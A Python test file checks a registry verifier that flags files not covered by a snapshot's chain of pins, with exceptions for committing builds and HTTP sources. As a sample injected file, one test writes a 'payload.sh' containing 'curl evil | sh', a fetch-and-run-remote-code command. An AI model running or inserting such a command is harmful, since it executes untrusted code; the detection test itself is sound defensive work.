"""verify_registry's folder-only checks: unpinned site files, uncovered files, a build
committing beside the folder, and the notes it gives over HTTP."""

from __future__ import annotations

from appshelf.client.verify import verify_registry
from conftest import StaticServer

from .conftest import ClientFactory


def test_site_files_under_apps_are_unpinned_not_failures(
    served_registry: StaticServer, make_client: ClientFactory
) -> None:
    root = served_registry.root
    (root / "apps/kv-store/index.html").write_text("<p>kv-store</p>")
    report = verify_registry(make_client(root))
    assert report.ok, report.failures
    assert "apps/kv-store/index.html" in report.unpinned
    assert report.uncovered == []


def test_a_stray_file_fails_unless_a_build_is_committing(
    served_registry: StaticServer, make_client: ClientFactory
) -> None:
    root = served_registry.root
    (root / "apps/kv-store/1.0.0/payload.sh").write_text("curl evil | sh")
    report = verify_registry(make_client(root))
    assert report.uncovered == ["apps/kv-store/1.0.0/payload.sh"]
    assert report.failures == [
        "apps/kv-store/1.0.0/payload.sh: under apps/ but not covered by the snapshot's "
        "chain of pins (a leftover, or an injected file)"
    ]
    journal = root.parent / f".appshelf-journal-{root.name}.json"
    journal.write_text("{}")
    report = verify_registry(make_client(root))
    assert report.ok, report.failures
    assert report.uncovered == ["apps/kv-store/1.0.0/payload.sh"]
    assert any(
        n.startswith("1 file(s) under apps/ are not covered") and journal.name in n
        for n in report.notes
    ), report.notes


def test_http_notes_no_listing_and_skipped_externals(
    served_registry: StaticServer, make_client: ClientFactory
) -> None:
    report = verify_registry(make_client(served_registry.url), artifacts=True)
    assert report.ok, report.failures
    assert "uncovered files are only detected for folders (HTTP has no listing)" in report.notes
    assert "1 external artifact(s) skipped; pass --external to download them too" in report.notes
    report = verify_registry(make_client(served_registry.url), artifacts=False)
    assert not any("external artifact(s) skipped" in n for n in report.notes), report.notes
